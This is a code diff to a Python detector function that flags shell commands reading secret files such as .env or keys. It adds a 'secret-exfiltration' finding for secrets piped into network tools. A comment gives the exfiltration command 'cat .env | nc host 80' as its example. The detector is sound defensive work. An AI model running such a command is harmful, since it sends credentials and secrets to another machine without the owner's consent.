@@ -544,6 +544,8 @@ def secret_reads(x: At) -> Finding | None:
         return None  # filtered or counted: only what the filter picks reaches the model
     if x.fed and x.fed <= _COUNTERS and not kept:
         return None  # cat .env | wc -l, cat key | sha256sum: only a count or a digest is shown
+    if x.fed & NETWORK and x.on("secret-exfiltration"):  # cat .env | nc host 80
+        return "secret-exfiltration", f"sends {what} to another machine (piped into {sorted(x.fed & NETWORK)[0]})"
     return "secret-read", f"reads {what}: its secrets would reach the model and the transcript"
 
 
